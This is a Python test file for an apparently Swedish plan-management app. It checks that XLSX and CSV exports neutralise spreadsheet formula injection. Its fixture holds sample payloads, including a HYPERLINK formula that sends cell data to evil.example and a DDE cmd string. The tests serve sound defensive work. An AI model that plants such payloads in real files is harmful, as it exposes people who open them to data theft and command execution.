"""
Issue 15, finding 1: the plan's exports are inert. A text that a spreadsheet would read as a
formula is written as text in XLSX (no formula cell) and CSV (a leading apostrophe), and the
export imports back to the same plan.
"""

import io

import pytest
import tablib
from openpyxl import load_workbook

from commitments.models import Commitment, Goal, Plan
from common.tabular import csv_bytes, xlsx_bytes
from indicators.plan_files import read_plan_files
from indicators.selectors import plan_export
from indicators.services import plan_import

pytestmark = pytest.mark.django_db

HOSTILE = {
    "NM01": '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")',
    "NM02": "=cmd|' /C calc'!A0",
    "NM03": "+1+1 är inte en formel",
    "NM04": "-2+3 inte heller",
}
COMMITMENT = ("A01", "@SUM(1+1) ska stå som text")


@pytest.fixture
def hostile_plan(demo) -> Plan:
    plan = Plan.objects.get(committee=demo, year=2019)
    for code, text in HOSTILE.items():
        Goal.objects.filter(plan=plan, code=code).update(text=text)
    Commitment.objects.filter(plan=plan, code=COMMITMENT[0]).update(text=COMMITMENT[1])
    return plan


def reimport(plan: Plan, files):
    return plan_import(user=None, committee=plan.committee, year=plan.year, datasets=read_plan_files(files))


def assert_unchanged(plan: Plan):
    assert dict(Goal.objects.filter(plan=plan, code__in=HOSTILE).values_list("code", "text")) == HOSTILE
    assert Commitment.objects.get(plan=plan, code=COMMITMENT[0]).text == COMMITMENT[1]


def test_the_xlsx_export_has_no_formula_and_imports_back_unchanged(hostile_plan):
    content = xlsx_bytes(plan_export(plan=hostile_plan))
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells}
    assert set(HOSTILE.values()) <= texts  # shown as typed, as text
    result = reimport(hostile_plan, [("plan.xlsx", content)])
    assert result.errors == []
    assert not any(sheet.updated for sheet in result.sheets)  # the same plan
    assert_unchanged(hostile_plan)


def test_the_csv_export_is_inert_and_imports_back_unchanged(hostile_plan):
    book = plan_export(plan=hostile_plan)
    goals = next(sheet for sheet in book.sheets() if sheet.title == "Mål")
    content = csv_bytes(goals)
    text = content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert "'+1+1 är inte en formel" in text
    assert "\n=" not in text
    assert ",=" not in text
    result = reimport(hostile_plan, [("mal.csv", content)])
    assert result.errors == []
    assert_unchanged(hostile_plan)


def test_a_formula_behind_leading_whitespace_is_stored_without_it_and_exported_inert(demo):
    """
    A plan file's cell "\\t=1+1": the import strips a cell's leading and trailing whitespace,
    as for every cell, so the text stored is "=1+1" (no text that starts with whitespace is
    stored by any path); both exports write it inert, and they import back to the same plan.
    """
    plan = Plan.objects.get(committee=demo, year=2019)
    goals = next(sheet for sheet in plan_export(plan=plan).sheets() if sheet.title == "Mål")
    text = goals.headers.index("text")
    rows = [list(row) for row in goals]
    next(row for row in rows if row[goals.headers.index("kod")] == "NM01")[text] = "\t=1+1"
    hostile = tablib.Dataset(*rows, headers=goals.headers, title="Mål")
    result = reimport(plan, [("mal.csv", hostile.export("csv").encode())])
    assert result.errors == []
    assert Goal.objects.get(plan=plan, code="NM01").text == "=1+1"

    book = plan_export(plan=plan)
    workbook = load_workbook(io.BytesIO(xlsx_bytes(book)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    csv = csv_bytes(next(sheet for sheet in book.sheets() if sheet.title == "Mål")).decode("utf-8-sig")
    assert "'=1+1" in csv
    assert ",=1+1" not in csv
    for files in ([("plan.xlsx", xlsx_bytes(book))], [("mal.csv", csv.encode())]):
        result = reimport(plan, files)
        assert result.errors == []
        assert not any(sheet.updated for sheet in result.sheets)
        assert Goal.objects.get(plan=plan, code="NM01").text == "=1+1"
